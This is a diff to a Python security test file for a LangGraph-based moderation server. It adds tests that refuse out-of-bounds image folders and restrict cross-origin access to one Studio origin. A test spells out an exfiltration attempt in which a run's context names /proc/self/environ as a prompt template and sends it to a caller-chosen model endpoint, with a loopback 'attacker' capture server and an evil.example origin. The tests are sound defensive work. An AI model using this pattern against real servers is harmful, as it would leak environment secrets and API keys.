@@ -190,9 +190,14 @@ async def test_image_paths_outside_the_allowed_roots_are_refused(client: Any, tm
         ):
             _, out = await run(client, graph, {"image": str(secret), "text": "hi"}, context=context)
             message = error_of(out)
-            # image_roots is refused as an unknown setting before the run; an image_store opens no folder.
+            # image_roots is refused as an unknown setting before the run; an image_store outside the server's
+            # folders is refused (it would be created there), and one inside them opens no folder.
             refusal = (
-                "image_roots: unknown setting" if "image_roots" in context else "outside the allowed image folders"
+                "image_roots: unknown setting"
+                if "image_roots" in context
+                else "image_store: '/' is outside the folders"
+                if context["image_store"] == "/"
+                else "outside the allowed image folders"
             )
             assert refusal in message, (context, message)
 
@@ -364,4 +369,99 @@ async def test_the_readme_shows_the_addresses_the_server_prints(client: Any, lan
         assert f"`{documented}`" in readme, (name, documented)
     assert found["Studio UI"] is not None and found["Studio UI"].group(1).startswith(
         "https://smith.langchain.com/studio/"
+    )
+
+
+class CaptureServer:
+    """A tiny HTTP server on loopback that records every request it gets (the attacker's endpoint)."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.requests: list[tuple[str, str, dict[str, str], bytes]] = []
+        outer = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                size = int(self.headers.get("content-length") or 0)
+                outer.requests.append((self.command, self.path, dict(self.headers), self.rfile.read(size)))
+                self.send_response(500)
+                self.end_headers()
+
+            do_GET = do_POST = do_PUT = _record
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+async def test_a_context_cannot_read_server_files_or_choose_an_endpoint(
+    client: Any, langgraph_server: Any, tmp_path: Path
+) -> None:
+    # The attack as it was made: a run's context names the server's environment as the guard's prompt and an
+    # endpoint of the caller's as the model, so the server would send the file (and its key) there.
+    capture = CaptureServer()
+    try:
+        script = write_json(tmp_path / "script.json", {"guard.llama-guard-4": [{"when": "", "then": "safe"}]})
+        sample = {"image_description": "a glass of water", "text": "Cheers."}
+        attacker = f"openai:x@{capture.url}/v1"
+        attempts: list[tuple[str, dict[str, Any], str]] = [
+            ("guard", {"guard": "template=/proc/self/environ", "model": attacker}, "guard: "),
+            ("guard", {"guard": "template=/proc/self/environ", "model": f"scripted:{script}"}, "guard: "),
+            ("guard", {"model": attacker}, "model: "),
+            ("guard", {"guard_model": attacker}, "guard_model: "),
+            ("vanilla", {"vanilla_detector_model": attacker}, "vanilla_detector_model: "),
+            (
+                "tag",
+                {"model": f"scripted:{script}", "image_store": "/var/tmp/unveil-made-by-a-context"},
+                "image_store: ",
+            ),
+        ]
+        for graph, context, field in attempts:
+            for how in ("context", "configurable"):
+                kw = {"context": context} if how == "context" else {"config": {"configurable": context}}
+                _, out = await run(client, graph, sample, **kw)
+                message = error_of(out)
+                assert message and field in message, (graph, how, context, message)
+                assert "outside the folders" in message or "not one this server allows" in message, message
+        assert capture.requests == []  # nothing was sent to the caller's endpoint, with or without a key
+        assert not Path("/var/tmp/unveil-made-by-a-context").exists()  # no folder made where a run said
+        # The same guard with a template inside the server's folders works: the limit is on where, not what.
+        template = tmp_path / "guard.txt"
+        template.write_text("Answer safe or unsafe.", encoding="utf-8")
+        script2 = write_json(tmp_path / "script2.json", {"guard.guard": [{"when": "", "then": "safe"}]})
+        _, out = await run(
+            client, "guard", sample, context={"guard": f"template={template}", "model": f"scripted:{script2}"}
+        )
+        assert not error_of(out), error_of(out)
+        assert out["toxic"] is False
+    finally:
+        capture.close()
+
+
+def test_the_server_answers_cross_origin_requests_from_studio_only(langgraph_server: Any) -> None:
+    import httpx
+
+    preflight = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
+    for origin in ("https://evil.example", "http://localhost:8000", "null"):
+        for resp in (
+            httpx.get(f"{langgraph_server.url}/ok", headers={"Origin": origin}),
+            httpx.options(f"{langgraph_server.url}/runs/wait", headers={"Origin": origin, **preflight}),
+        ):
+            assert "access-control-allow-origin" not in resp.headers, (origin, dict(resp.headers))
+    studio = "https://smith.langchain.com"
+    resp = httpx.options(f"{langgraph_server.url}/runs/wait", headers={"Origin": studio, **preflight})
+    assert resp.status_code == 200 and resp.headers["access-control-allow-origin"] == studio
+    assert (
+        httpx.get(f"{langgraph_server.url}/ok", headers={"Origin": studio}).headers["access-control-allow-origin"]
+        == studio
     )
